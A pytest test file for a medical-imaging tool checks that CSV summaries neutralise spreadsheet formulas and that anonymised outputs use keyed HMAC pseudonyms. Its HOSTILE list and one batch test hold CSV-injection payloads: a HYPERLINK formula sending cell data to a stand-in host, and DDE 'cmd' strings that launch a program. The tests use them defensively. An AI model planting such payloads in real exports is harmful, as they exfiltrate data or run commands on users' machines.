"""Outputs stay safe (issue 17 items 6 and 7): summary.csv cells cannot run as spreadsheet
formulas; anonymised outputs carry keyed pseudonyms (HMAC-SHA256 under a per-installation secret
or a key file) and no study identifier, folder name or path."""

from __future__ import annotations

import csv
import hashlib
import hmac
import json
import os
import stat
from pathlib import Path

import pytest

from app.analysis.summary import SummaryRow, spreadsheet_safe, write_summary
from app.cli import main
from app.findings import pseudonym as pseudo
from app.findings.io import StudyRef
from app.study.dicom_writer import PatientTags, write_series
from app.study.model import PatientInfo
from tests import fake_tasks
from tests.fake_tasks import ct_phantom

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': True,
    "+cmd|' /C calc'!A1": True,
    "-2+3+cmd|' /C calc'!A0": True,
    "@SUM(1+1)*cmd|' /C calc'!A0": True,
    "\t=1+1": True,
    "\r=1+1": True,
    "  =1+1": True,  # leading spaces do not hide a formula
    "\uff1d1+1": True,  # full-width equals sign
    "DOE^JANE": False,
    "O'BRIEN": False,
    "": False,
}


@pytest.fixture(autouse=True)
def _isolated(monkeypatch, tmp_path):
    """Never the real home: each test gets its own secret file."""
    fake_tasks.register(monkeypatch)
    monkeypatch.setenv(pseudo.SECRET_ENV, str(tmp_path / "config" / "pseudonym.key"))
    pseudo._cache.clear()
    yield
    pseudo._cache.clear()


# ---- summary.csv ---------------------------------------------------------------------------
@pytest.mark.parametrize(("value", "neutralised"), list(HOSTILE.items()))
def test_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value, neutralised):
    assert spreadsheet_safe(value) == ("'" + value if neutralised else value)


def test_summary_csv_neutralises_patient_fields_and_keeps_numbers(tmp_path):
    names = [v for v, bad in HOSTILE.items() if bad]
    rows = [
        SummaryRow(
            f"study{n}",
            "ok",
            "",
            1.5,
            StudyRef(study_uid=f"1.2.{n}", patient=PatientInfo(name=name, patient_id=name)),
            {"fracture": -0.25 if n == 0 else 0.5},
        )
        for n, name in enumerate(names)
    ]
    path = write_summary(tmp_path / "summary.csv", rows, anonymise=False)
    with open(path, newline="") as f:
        read = list(csv.DictReader(f))
    for row, name in zip(read, names, strict=True):
        assert row["patient_name"] == "'" + name and row["patient_id"] == "'" + name
        assert row["time_s"] == "1.500"
    assert read[0]["p:fracture"] == "-0.250000"  # a number this code formatted stays a number
    for row in read:
        for column, cell in row.items():
            if not column.startswith("p:"):
                assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_batch_with_formula_patient_names_writes_a_safe_summary(tmp_path, capsys):
    root = tmp_path / "studies"
    write_series(
        ct_phantom(),
        root / "a",
        patient=PatientTags(name='=HYPERLINK("http://x.example","y")', patient_id="+cmd|calc!A1"),
    )
    write_series(ct_phantom(fracture_in=1), root / "b")
    rc = main(["analyze", str(root), "--batch", "--task", "fake-ct", "--out", str(tmp_path / "o")])
    assert rc == 0, capsys.readouterr().err
    with open(tmp_path / "o" / "summary.csv", newline="") as f:
        rows = {r["study"]: r for r in csv.DictReader(f)}
    assert rows["a"]["patient_name"] == '\'=HYPERLINK("http://x.example","y")'
    assert rows["a"]["patient_id"] == "'+cmd|calc!A1"


# ---- pseudonyms ------------------------------------------------------------------------------
def test_pseudonyms_are_keyed_hmacs_not_plain_hashes():
    uid = "1.2.840.113619.2.55.3.604688119"
    key_a, key_b = b"a" * 32, b"b" * 32
    expected = hmac.new(key_a, uid.encode(), hashlib.sha256).hexdigest()[:16].upper()
    assert pseudo.pseudonym(uid, key_a) == "ANON-" + expected
    assert pseudo.pseudonym(uid, key_a) == pseudo.pseudonym(uid, key_a)  # stable
    assert pseudo.pseudonym(uid, key_a) != pseudo.pseudonym(uid, key_b)
    unsalted = hashlib.sha256(uid.encode()).hexdigest()[:10].upper()
    assert unsalted not in pseudo.pseudonym(uid, key_a)  # the old, linkable scheme


def test_the_installation_secret_is_made_once_private_and_reused(tmp_path):
    path = pseudo.default_secret_path()
    assert not path.exists()
    key = pseudo.installation_key()
    assert len(key) == pseudo.KEY_BYTES and path.read_bytes() == key
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    pseudo._cache.clear()
    assert pseudo.installation_key() == key  # read back, not remade
    assert StudyRef(study_uid="1.2.3").anonymous_id() == pseudo.pseudonym("1.2.3", key)


def test_xdg_config_home_is_respected(tmp_path, monkeypatch):
    monkeypatch.delenv(pseudo.SECRET_ENV)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    assert pseudo.default_secret_path() == tmp_path / "xdg" / "osteoview" / "pseudonym.key"
    monkeypatch.delenv("XDG_CONFIG_HOME")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert pseudo.default_secret_path() == tmp_path / "home" / ".config/osteoview/pseudonym.key"


def test_a_secret_others_can_read_is_refused(tmp_path):
    path = pseudo.default_secret_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(os.urandom(32))
    path.chmod(0o644)
    with pytest.raises(pseudo.PseudonymKeyError, match="readable by other users.*chmod 600"):
        pseudo.installation_key()


def test_a_second_creator_keeps_the_first_secret(tmp_path):
    path = tmp_path / "k" / "pseudonym.key"
    pseudo._create_secret(path)
    first = path.read_bytes()
    pseudo._create_secret(path)  # a racing process: must not replace it
    assert path.read_bytes() == first
    assert [p.name for p in path.parent.iterdir()] == ["pseudonym.key"]


def _ct_study(root: Path) -> Path:
    patient = PatientTags(name="ROE^RICHARD", patient_id="PID-31", accession="ACC-31")
    write_series(ct_phantom(fracture_in=2), root, patient=patient, series_description="neck CT")
    return root


def test_anonymise_key_file_gives_the_same_pseudonym_anywhere(tmp_path, capsys):
    study = _ct_study(tmp_path / "Roe_Richard_1970")
    key_file = tmp_path / "site.key"
    key_file.write_bytes(os.urandom(32))
    out = tmp_path / "out"
    rc = main(
        ["analyze", str(study), "--task", "fake-ct", "--out", str(out)]
        + ["--anonymise-key", str(key_file), "--report"]
    )
    assert rc == 0, capsys.readouterr().err
    text = (out / "findings.json").read_text()
    doc = json.loads(text)
    from pydicom import dcmread

    uid = str(dcmread(next(study.iterdir())).StudyInstanceUID)
    assert doc["study"]["study_uid"] == pseudo.pseudonym(uid, key_file.read_bytes())
    for leak in ("ROE", "PID-31", "ACC-31", uid, "Roe_Richard", "neck CT"):
        assert leak not in text, leak
    assert not pseudo.default_secret_path().exists()  # the given key was used, not a new one


@pytest.mark.parametrize(
    ("content", "message"),
    [(b"short", "the key has 5 bytes; use at least 16"), (None, "no such key file")],
)
def test_a_bad_key_file_is_one_line(tmp_path, capsys, content, message):
    key_file = tmp_path / "site.key"
    if content is not None:
        key_file.write_bytes(content)
    study = _ct_study(tmp_path / "study")
    rc = main(
        ["analyze", str(study), "--task", "fake-ct", "--out", str(tmp_path / "o")]
        + ["--anonymise-key", str(key_file)]
    )
    err = capsys.readouterr().err.strip().splitlines()
    assert rc == 2 and len(err) == 1 and message in err[0] and str(key_file) in err[0]
    assert not (tmp_path / "o").exists()
